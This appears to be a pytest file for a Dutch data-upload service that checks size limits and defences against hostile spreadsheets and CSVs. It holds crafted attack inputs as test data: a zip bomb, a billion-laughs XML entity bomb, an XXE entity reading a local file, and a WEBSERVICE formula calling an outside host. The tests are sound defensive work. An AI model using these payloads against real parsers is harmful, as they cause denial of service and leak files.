"""How large a file may be: each bound refuses in a sentence, and before anything is large."""

import io
import tomllib
import zipfile
from pathlib import Path

import duckdb
import pytest
import xlsxwriter

from ketenmonitor.errors import Weigering
from ketenmonitor.intake import limits, spreadsheet
from ketenmonitor.intake.mapping import recognise, suggest
from ketenmonitor.intake.reading import load, read
from ketenmonitor.vocabulary.extract import extracts


def workbook(*cells: tuple[int, int, object]) -> bytes:
    target = io.BytesIO()
    with xlsxwriter.Workbook(target) as book:
        sheet = book.add_worksheet()
        for row, column, value in cells:
            sheet.write(row, column, value)
    return target.getvalue()


TABLE = ((0, 0, "client"), (0, 1, "maand"), (1, 0, "a1"), (1, 1, "2026-10"))


def changed(inhoud: bytes, **parts: bytes) -> bytes:
    """A workbook with parts of its zip replaced or added."""
    target = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(inhoud)) as old,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in {*old.namelist(), *parts}:
            new.writestr(name, parts[name] if name in parts else old.read(name))
    return target.getvalue()


def read_and_load(naam: str, inhoud: bytes) -> int:
    with duckdb.connect() as connection:
        return load(read(naam, inhoud), connection, "t").rijen


def text_or_refusal(inhoud: bytes) -> str:
    try:
        return read("x.xlsx", inhoud).inhoud.tekst.decode()
    except Weigering as refusal:
        return str(refusal)


def test_the_server_takes_no_more_bytes_than_the_intake_reads():
    settings = tomllib.loads(Path(".streamlit/config.toml").read_text("utf-8"))
    assert settings["server"]["maxUploadSize"] * 1_000_000 == limits.MAX_BYTES


@pytest.mark.parametrize("slot", ["", "\n\n", '"a\nb";2\n'], ids=["plain", "blank lines", "line breaks"])
def test_more_rows_than_allowed_are_refused(monkeypatch, slot):
    monkeypatch.setattr(limits, "MAX_ROWS", 3)
    assert read_and_load("x.csv", b"a;b\n" + b"1;2\n" * 3)
    with pytest.raises(Weigering, match=r"^x\.csv heeft meer dan 3 rijen; lever alleen"):
        read_and_load("x.csv", b"a;b\n1;2\n" + slot.encode() + b"1;2\n" * 3)


def test_rows_that_are_all_wrong_count_as_well(monkeypatch):
    monkeypatch.setattr(limits, "MAX_ROWS", 3)
    with pytest.raises(Weigering, match="meer dan 3 rijen"):
        read_and_load("x.csv", b"a;b\n1;2\n" + b"1;2;3\n" * 5)


def test_millions_of_blank_lines_are_refused_before_they_are_looked_at():
    with pytest.raises(Weigering, match=r"meer dan 10\.000\.000 regels, lege meegeteld"):
        read("x.csv", b"a;b\n1;2\n" + b"\n" * (limits.MAX_LINES + 1) + b"3;4\n")


def test_a_column_name_that_is_a_text_is_refused():
    with pytest.raises(Weigering, match=r"naam van kolom 2 in x\.csv is langer dan 255 tekens"):
        read("x.csv", b"a;" + b"b" * 256 + b"\n1;2\n")


def test_thousands_of_long_column_names_are_matched_within_seconds():
    kop = [f"{i:04d}" + "vraag" * 50 for i in range(2000)]
    assert recognise(kop) is None
    assert suggest(kop, extracts()["trajecten"]).kolommen == {}


@pytest.mark.parametrize(
    "tekst", [b"x" * 32_768, b'"' + b"x\n" * 16_383 + b'xx"'], ids=["line", "line breaks"]
)
def test_a_cell_longer_than_a_cell_can_be_is_refused_with_its_place(tekst):
    assert read_and_load("x.csv", b"a;b\n1;2\n3;" + b"x" * 32_767 + b"\n") == 2
    with pytest.raises(Weigering, match=r"^Regel 3, kolom 2 van x\.csv heeft 32\.768 tekens in één cel"):
        read_and_load("x.csv", b"a;b\n1;2\n3;" + tekst + b"\n")


def test_the_length_of_a_cell_is_counted_in_characters():
    assert read_and_load("x.csv", "a;b\n1;{}\n".format("ë" * 32_767).encode()) == 1


def test_a_cell_beyond_what_csv_can_hold_is_no_forgotten_quote():
    with pytest.raises(Weigering, match=r"^Regel 3 van x\.csv heeft 200\.000 tekens in één cel"):
        read_and_load("x.csv", b"a;b\n\n1;" + b"x" * 200_000 + b"\n")


def test_few_bytes_that_become_much_text_are_refused(monkeypatch):
    monkeypatch.setattr(limits, "MAX_EXPANDED", 100_000)
    with pytest.raises(Weigering, match="uitgeschreven groter dan"):
        read("x.csv", b"a;b" + b";" * 1000 + b"\n" + b"1;2\n" * 1000)


def test_one_cell_far_outside_the_table_does_not_end_the_server():
    """Five kilobytes that ask for 549 GB."""
    inhoud = workbook(*TABLE, (1_048_575, 1_900, "ver"))
    assert len(inhoud) < 10_000
    with pytest.raises(Weigering, match="te veel geheugen of tijd, vaak door een gevulde cel ver buiten"):
        read("x.xlsx", inhoud)


def test_a_reader_that_takes_too_long_is_ended(monkeypatch, tmp_path: Path):
    slow = tmp_path / "reader.py"
    endless = "    while True:\n        pass\n    import python_calamine as calamine\n"
    slow.write_text(
        spreadsheet.READER.read_text("utf-8").replace(endless.splitlines(True)[2], endless), "utf-8"
    )
    monkeypatch.setattr(spreadsheet, "READER", slow)
    monkeypatch.setattr(limits, "MAX_SECONDS", 1)
    with pytest.raises(Weigering, match="te veel geheugen of tijd"):
        read("x.xlsx", workbook(*TABLE))


def test_a_sheet_wider_than_allowed_is_refused():
    with pytest.raises(Weigering, match=r"^x\.xlsx heeft 2\.001 kolommen, meer dan de 2\.000"):
        read("x.xlsx", workbook(*TABLE, (1, 2000, "ver")))


def test_a_cell_of_a_workbook_longer_than_a_cell_can_be_is_refused_with_its_place():
    long = b"<si><t>" + b"x" * 32_768 + b"</t></si>"
    inhoud = workbook(*TABLE)
    with zipfile.ZipFile(io.BytesIO(inhoud)) as archive:
        strings = archive.read("xl/sharedStrings.xml")
    forged = changed(inhoud, **{"xl/sharedStrings.xml": strings.replace(b"<si><t>a1</t></si>", long)})
    with pytest.raises(Weigering, match=r"^Rij 2, kolom 1 van x\.xlsx heeft 32\.768 tekens"):
        read("x.xlsx", forged)


def test_a_workbook_that_says_it_expands_too_far_is_not_opened(monkeypatch):
    inhoud = workbook(*TABLE)
    monkeypatch.setattr(limits, "MAX_EXPANDED", 1000)
    monkeypatch.setattr(zipfile.ZipFile, "open", None)
    with pytest.raises(Weigering, match="uitgepakt groter dan"):
        read("x.xlsx", inhoud)


def test_a_workbook_of_almost_nothing_but_repetition_is_refused():
    bomb = changed(workbook(*TABLE), **{"xl/worksheets/sheet9.xml": bytes(60 * 2**20)})
    assert len(bomb) < 100_000
    with pytest.raises(Weigering, match="meer dan 250 keer zo groot als ingepakt"):
        read("x.xlsx", bomb)


def test_a_zip_of_very_many_parts_is_not_opened(monkeypatch):
    monkeypatch.setattr(limits, "MAX_PARTS", 20)
    monkeypatch.setattr(zipfile, "ZipFile", zipfile.ZipFile)
    many = changed(workbook(*TABLE), **{f"xl/media/{i}.bin": b"" for i in range(20)})
    with pytest.raises(Weigering, match="meer dan 20 onderdelen"):
        read("x.xlsx", many)


def test_entities_of_xml_are_not_expanded():
    """A billion laughs: ten levels of ten."""
    levels = b"".join(
        b'<!ENTITY l%d "%s">' % (i, b"&l%d;" % (i - 1) * 10 if i else b"lol") for i in range(10)
    )
    inhoud = workbook(*TABLE)
    with zipfile.ZipFile(io.BytesIO(inhoud)) as archive:
        strings = archive.read("xl/sharedStrings.xml")
    forged = strings.replace(b"?>", b"?><!DOCTYPE sst [" + levels + b"]>", 1).replace(b">a1<", b">&l9;<")
    assert forged != strings
    assert len(text_or_refusal(changed(inhoud, **{"xl/sharedStrings.xml": forged}))) < 1000


def test_an_external_entity_reads_no_file(tmp_path: Path):
    secret = tmp_path / "geheim.txt"
    secret.write_text("geheim", "utf-8")
    inhoud = workbook(*TABLE)
    with zipfile.ZipFile(io.BytesIO(inhoud)) as archive:
        strings = archive.read("xl/sharedStrings.xml")
    declared = f'?><!DOCTYPE sst [<!ENTITY x SYSTEM "file://{secret}">]>'.encode()
    forged = strings.replace(b"?>", declared, 1).replace(b">a1<", b">&x;<")
    assert "geheim" not in text_or_refusal(changed(inhoud, **{"xl/sharedStrings.xml": forged}))


def test_a_zip_within_a_zip_is_refused():
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr("levering.xlsx", workbook(*TABLE))
    with pytest.raises(Weigering, match=r"ingepakt bestand \(zip\), maar geen Excel-werkmap"):
        read("x.zip", inner.getvalue())


def test_an_encrypted_zip_is_refused_as_locked():
    inhoud = bytearray(workbook(*TABLE))
    at = -1
    while (at := inhoud.find(b"PK\x01\x02", at + 1)) >= 0:
        inhoud[at + 8] |= 1
    with pytest.raises(Weigering, match="met een wachtwoord beveiligd"):
        read("x.xlsx", bytes(inhoud))


def test_macros_are_passed_over_and_that_is_said():
    found = read("x.xlsm", changed(workbook(*TABLE), **{"xl/vbaProject.bin": b"macro"}))
    assert found.aannames == (spreadsheet.MACROS,)
    assert found.inhoud.rijen == 1


def test_a_formula_gives_its_result_and_is_not_run():
    target = io.BytesIO()
    with xlsxwriter.Workbook(target) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, ["client", "bedrag"])
        sheet.write_string(1, 0, "a1")
        sheet.write_formula(1, 1, '=WEBSERVICE("http://example.org/"&A2)', None, 12)
    assert read("x.xlsx", target.getvalue()).inhoud.tekst == b"2;2;a1;12\n"


def test_the_reader_of_workbooks_gets_nothing_of_the_environment(monkeypatch):
    monkeypatch.setenv("KETENMONITOR_SLEUTEL", "geheim")
    started = {}

    def popen(*args, **kwargs):
        started.update(kwargs)
        raise InterruptedError

    monkeypatch.setattr(spreadsheet.subprocess, "Popen", popen)
    with pytest.raises(InterruptedError):
        read("x.xlsx", workbook(*TABLE))
    assert set(started["env"]) <= {"SYSTEMROOT", "LD_LIBRARY_PATH"}


def test_no_reader_is_left_behind(monkeypatch):
    kept = []
    popen = spreadsheet.subprocess.Popen
    monkeypatch.setattr(
        spreadsheet.subprocess,
        "Popen",
        lambda *args, **kwargs: kept.append(popen(*args, **kwargs)) or kept[-1],
    )
    read("x.xlsx", workbook(*TABLE))
    with pytest.raises(Weigering):
        read("x.xlsx", workbook(*TABLE, (0, 2, "x" * 300)))
    assert [process.poll() is not None for process in kept] == [True, True]


def test_the_handbook_names_the_bounds_as_they_are():
    told = Path("docs/handleiding/04-aanleveren.md").read_text("utf-8").replace("\n", " ")
    assert (
        f"{limits.MAX_BYTES // 10**6} MB, {limits.MAX_ROWS // 10**6} miljoen rijen, "
        f"{limits.MAX_COLUMNS // 1000}.000 kolommen, {limits.MAX_NAME} tekens in een kolomnaam" in told
    )
    assert f"{limits.MAX_CELL:,}".replace(",", ".") in told
    assert f"uitgepakt {limits.MAX_EXPANDED // 2**30} GB" in told
